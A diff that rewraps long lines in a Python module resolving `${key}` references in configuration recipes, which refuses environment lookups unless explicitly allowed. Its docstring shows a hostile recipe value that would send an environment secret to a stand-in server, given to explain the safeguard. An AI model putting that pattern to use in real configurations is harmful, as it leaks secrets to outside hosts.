@@ -1,7 +1,9 @@
-"""`${key}` in a recipe: the value of another key of the same configuration; nothing else is ever evaluated.
+"""`${key}` in a recipe: the value of another key of the same configuration; nothing else is ever
+evaluated.
 
-A recipe may be a stranger's, and `data: http://his.server/${oc.env:SECRET}` would send him whatever the environment
-holds. So only `${oc.env:NAME}` exists besides, and only where the command line allows it. `$${` is `${` itself.
+A recipe may be a stranger's, and `data: http://his.server/${oc.env:SECRET}` would send him whatever
+the environment holds. So only `${oc.env:NAME}` exists besides, and only where the command line
+allows it. `$${` is `${` itself.
 """
 
 import os
@@ -31,11 +33,15 @@ class References:
 
     def __init__(self, tree: dict[str, Tree], defaults: Any = None, allow_env: bool = False):
         self.tree, self.defaults, self.allow_env = tree, defaults, allow_env
-        self._texts: dict[str, str] = {}  # of keys that were referred to: what is asked for twice is made once
+        self._texts: dict[
+            str, str
+        ] = {}  # of keys that were referred to: what is asked for twice is made once
         self._open: list[str] = []
 
     def text_of(self, scalar: Scalar, key: str) -> str:
-        """The text of a scalar under `key`, its references replaced. Raises `InputError` where one leads nowhere."""
+        """The text of a scalar under `key`, its references replaced. Raises `InputError` where one
+        leads nowhere.
+        """
         if scalar.given or "${" not in scalar.text:
             return scalar.text
         length = 0
@@ -43,7 +49,9 @@ class References:
         for part in self._parts(scalar.text, key):
             length += len(part)
             if length > LONGEST:
-                raise InputError(f"{key}: longer than {LONGEST:,} characters with its references replaced")
+                raise InputError(
+                    f"{key}: longer than {LONGEST:,} characters with its references replaced"
+                )
             parts.append(part)
         return "".join(parts)
 
@@ -63,14 +71,18 @@ class References:
             refused = f"{key}: {shown('${' + name + '}')} is not evaluated: a recipe reads nothing of this machine"
             raise InputError(f"{refused}; --allow-env lets it read variables by ${{oc.env:NAME}}")
         if not KEY.fullmatch(name):
-            raise InputError(f"{key}: '${{' begins a reference to another key, as in ${{name}}; write $${{ for itself")
+            raise InputError(
+                f"{key}: '${{' begins a reference to another key, as in ${{name}}; write $${{ for itself"
+            )
         if name not in self._texts:
             self._texts[name] = self._follow(name, key)
         return self._texts[name]
 
     def _follow(self, name: str, key: str) -> str:
         if name in self._open or len(self._open) == DEEPEST:
-            raise InputError(f"{key}: its reference to {shown(name)} leads back to itself, or too far")
+            raise InputError(
+                f"{key}: its reference to {shown(name)} leads back to itself, or too far"
+            )
         self._open.append(name)
         try:
             return self.text_of(self._target(name, key), name)
@@ -82,14 +94,18 @@ class References:
         default: Any = self.defaults
         for part in name.split("."):
             tree = tree.get(part) if isinstance(tree, dict) else None
-            default = default.get(part) if isinstance(default, dict) else getattr(default, part, None)
+            default = (
+                default.get(part) if isinstance(default, dict) else getattr(default, part, None)
+            )
         if isinstance(tree, Scalar):
             return tree
         if tree is None and isinstance(default, str | int | float):
             return Scalar(str(default))
         if tree is not None:
             raise InputError(f"{key}: it refers to {shown(name)}, which is not a single value")
-        raise InputError(f"{key}: it refers to {shown(name)}, which is no key that has a value; '$${{' is '${{' itself")
+        raise InputError(
+            f"{key}: it refers to {shown(name)}, which is no key that has a value; '$${{' is '${{' itself"
+        )
 
 
 def escaped(values: Any) -> Any:
@@ -104,5 +120,7 @@ def escaped(values: Any) -> Any:
 def _environment(name: str, default: str | None, key: str) -> str:
     value = os.environ.get(name, default)
     if value is None:
-        raise InputError(f"{key}: the environment has no variable {name}; set it, or give {key}= on the command line")
+        raise InputError(
+            f"{key}: the environment has no variable {name}; set it, or give {key}= on the command line"
+        )
     return value
